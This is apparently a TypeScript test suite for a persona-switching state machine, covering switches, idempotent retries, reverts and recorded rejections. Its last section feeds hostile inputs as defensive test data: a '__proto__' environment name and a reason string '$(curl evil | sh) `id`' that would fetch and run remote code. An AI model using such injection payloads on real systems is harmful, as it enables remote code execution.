import { applyRequest, findOriginal, recordRejection } from '../../src/switching/apply-request.js';
import { RequestRejected, type StateDocument } from '../../src/switching/apply-types.js';
import { MAX_ACKS, MAX_PREVIOUS } from '../../src/switching/persona-state.js';
import { at, ctx, deepFreeze, refusal, req, resolve, rollout, run } from './apply-fixtures.js';

describe('applyRequest: switch', () => {
  it('a first switch creates the document at revision 1 with an applied ack and its history entry', () => {
    const r = req({ persona: 'Security-First', reason: 'audit' });
    const { state, entry, ack, changed } = applyRequest(undefined, r, ctx(0));
    expect(changed).toBe(true);
    expect(state).toEqual({
      schema_version: '1.0',
      revision: 1,
      active: { persona: 'security-first', since: at(0).toISOString(), by: 'alice', reason: 'audit', correlation_id: r.correlation_id },
      previous: [],
      acks: [ack],
    });
    expect(ack).toEqual({ correlation_id: r.correlation_id, result: 'applied', reason: '', revision: 1, at: at(0).toISOString() });
    expect(entry).toEqual({
      at: at(0).toISOString(),
      by: 'alice',
      action: 'switch',
      persona: 'security-first',
      correlation_id: r.correlation_id,
      result: 'applied',
      reason: 'audit',
      revision: 1,
    });
  });

  it('each switch raises the revision by one and pushes the replaced persona to previous (newest first, at most 20)', () => {
    let s: StateDocument | undefined;
    for (let i = 0; i < 25; i += 1) s = applyRequest(s, req({ persona: `p${i}` }), ctx(i)).state;
    expect(s!.revision).toBe(25);
    expect(s!.active?.persona).toBe('p24');
    expect(s!.previous).toHaveLength(MAX_PREVIOUS);
    expect(s!.previous.map((p) => p.persona).slice(0, 3)).toEqual(['p23', 'p22', 'p21']);
  });

  it('a switch to the active persona is applied again (revision + 1), not a no-op', () => {
    const s = run(undefined, [[0, { persona: 'a' }]]);
    const { state, changed } = applyRequest(s, req({ persona: 'a' }), ctx(1));
    expect(changed).toBe(true);
    expect(state.revision).toBe(2);
    expect(state.previous.map((p) => p.persona)).toEqual(['a']);
  });

  it('an environment switch touches only that environment; the document may have no global persona', () => {
    const { state } = applyRequest(undefined, req({ persona: 'freeze', environment: 'production' }), ctx(0));
    expect(state.active).toBeUndefined();
    expect(state.environments?.production?.active.persona).toBe('freeze');
    expect(state.environments?.production?.previous).toEqual([]);
    const next = applyRequest(state, req({ persona: 'balanced' }), ctx(1)).state;
    expect(next.environments).toEqual(state.environments);
    expect(next.active?.persona).toBe('balanced');
    expect(resolve(next, 1, 'production')?.persona).toBe('freeze');
  });

  it('a bad blend is the canonicaliser ConfigurationError, not a rejection', () => {
    expect(() => applyRequest(undefined, req({ persona: 'bad-one' }), ctx(0))).toThrow(/unknown persona "bad-one"/);
    expect(() => applyRequest(undefined, req({ persona: 'bad-one' }), ctx(0))).not.toThrow(RequestRejected);
  });

  it('never mutates the state it is given', () => {
    const s = deepFreeze(
      run(undefined, [
        [0, { persona: 'a' }],
        [1, { persona: 'b', rollout }],
      ])!,
    );
    const copy = structuredClone(s);
    for (const r of [{ persona: 'c' }, { action: 'pause' as const }, { action: 'abort' as const }, { action: 'revert' as const }])
      applyRequest(s, req(r), ctx(2));
    recordRejection(s, req(), 'no', ctx(2));
    expect(s).toEqual(copy);
  });
});

describe('applyRequest: idempotency', () => {
  it('the same correlation id twice: applied once, acknowledged twice as applied then duplicate', () => {
    const r = req({ persona: 'a' });
    const first = applyRequest(undefined, r, ctx(0));
    const second = applyRequest(first.state, r, ctx(5));
    expect(second.changed).toBe(false);
    expect(second.ack).toEqual({
      correlation_id: r.correlation_id,
      result: 'duplicate',
      reason: 'this correlation id was already applied at revision 1; not applied again',
      revision: 1,
      at: at(5).toISOString(),
    });
    expect(second.state).toEqual({ ...first.state, acks: [first.ack, second.ack] });
    expect(second.entry).toMatchObject({ result: 'duplicate', revision: 1, correlation_id: r.correlation_id });
    expect(second.entry.persona).toBeUndefined();
  });

  it('a retried rejected request is a duplicate naming the original rejection', () => {
    const r = req({ action: 'revert' });
    const rejected = recordRejection(undefined, r, 'there is nothing to revert to', ctx(0));
    const again = applyRequest(rejected.state, { ...r, action: 'switch', persona: 'a' }, ctx(1));
    expect(again.ack.reason).toBe('this correlation id was already rejected at revision 0: there is nothing to revert to; not applied again');
    expect(again.state.active).toBeUndefined();
  });

  it('an id whose ack fell out of the last 200 is still known from the switch records', () => {
    const old = req({ persona: 'a' });
    let s = applyRequest(undefined, old, ctx(0)).state;
    for (let i = 0; i < MAX_ACKS + 5; i += 1) s = recordRejection(s, req(), `r${i}`, ctx(1)).state;
    expect(s.acks).toHaveLength(MAX_ACKS);
    expect(s.acks.some((a) => a.correlation_id === old.correlation_id)).toBe(false);
    expect(s.acks[s.acks.length - 1]!.reason).toBe(`r${MAX_ACKS + 4}`);
    s = applyRequest(s, req({ persona: 'b' }), ctx(2)).state;
    expect(findOriginal(s, old.correlation_id)).toEqual({ result: 'applied', reason: '' });
    const again = applyRequest(s, old, ctx(3));
    expect(again.changed).toBe(false);
    expect(again.state.active?.persona).toBe('b');
    expect(again.ack.reason).toBe('this correlation id was already applied; not applied again');
  });
});

describe('applyRequest: revert', () => {
  it('goes back to previous[0] and pops it; a second revert goes one further back', () => {
    const s = run(undefined, [
      [0, { persona: 'a' }],
      [1, { persona: 'b' }],
      [2, { persona: 'c', ttl: '1h' }],
    ]);
    const once = applyRequest(s, req({ action: 'revert', reason: 'oops' }), ctx(3));
    expect(once.state.active).toMatchObject({ persona: 'b', by: 'alice', reason: 'oops', since: at(3).toISOString() });
    expect(once.state.ttl).toBeUndefined();
    expect(once.state.previous.map((p) => p.persona)).toEqual(['a']);
    expect(once.entry).toMatchObject({ action: 'revert', persona: 'b', revision: 4 });
    const twice = applyRequest(once.state, req({ action: 'revert' }), ctx(4)).state;
    expect(twice.active?.persona).toBe('a');
    expect(refusal(() => applyRequest(twice, req({ action: 'revert' }), ctx(5)))).toBe(
      'there is nothing to revert to in the global scope: it has no earlier persona',
    );
  });

  it('works per environment', () => {
    const s = run(undefined, [
      [0, { persona: 'g' }],
      [0, { persona: 'e1', environment: 'prod' }],
      [1, { persona: 'e2', environment: 'prod' }],
    ]);
    const { state } = applyRequest(s, req({ action: 'revert', environment: 'prod' }), ctx(2));
    expect(state.environments?.prod?.active.persona).toBe('e1');
    expect(state.active?.persona).toBe('g');
  });
});

describe('recordRejection', () => {
  it('a first-ever rejection creates the document at revision 0 with no persona', () => {
    const r = req({ persona: 'nope' });
    const { state, entry, ack } = recordRejection(undefined, r, 'unknown persona "nope"', ctx(0, 'bob'));
    expect(state).toEqual({ schema_version: '1.0', revision: 0, previous: [], acks: [ack] });
    expect(ack).toEqual({ correlation_id: r.correlation_id, result: 'rejected', reason: 'unknown persona "nope"', revision: 0, at: at(0).toISOString() });
    expect(entry).toMatchObject({ by: 'bob', result: 'rejected', revision: 0, reason: 'unknown persona "nope"' });
    expect(resolve(state, 0)).toBeUndefined();
  });

  it('keeps the revision and everything but the acks; acks stay at most 200, oldest dropped', () => {
    let s = run(undefined, [[0, { persona: 'a' }]])!;
    const before = s;
    for (let i = 0; i < MAX_ACKS; i += 1) s = recordRejection(s, req(), `r${i}`, ctx(1)).state;
    expect(s.acks).toHaveLength(MAX_ACKS);
    expect(s.acks[0]!.reason).toBe('r0');
    expect({ ...s, acks: [] }).toEqual({ ...before, acks: [] });
    expect(s.revision).toBe(1);
  });
});

describe('hostile requests against the state machine', () => {
  it('an environment named __proto__ is stored as plain data and never touches a prototype', () => {
    const { state } = applyRequest(undefined, req({ persona: 'x', environment: '__proto__' }), ctx(0));
    expect(Object.hasOwn(state.environments!, '__proto__')).toBe(true);
    expect(Object.getPrototypeOf(state.environments)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).active).toBeUndefined();
    expect(JSON.parse(JSON.stringify(state)).environments.__proto__.active.persona).toBe('x');
    expect(resolve(state, 0, '__proto__')?.persona).toBe('x');
    expect(resolve(state, 0, 'constructor')).toBeUndefined();
  });

  it('a reason with shell syntax and control characters is stored as given, never interpreted', () => {
    const reason = '$(curl evil | sh) `id` \u0000\u001b[2J';
    const { state, entry } = applyRequest(undefined, req({ persona: 'x', reason }), ctx(0));
    expect(state.active?.reason).toBe(reason);
    expect(entry.reason).toBe(reason);
  });

  it('a switch without a persona is a ConfigurationError and nothing else happens', () => {
    expect(() => applyRequest(undefined, req({ persona: undefined }), ctx(0))).toThrow(/a switch request needs a persona/);
  });
});
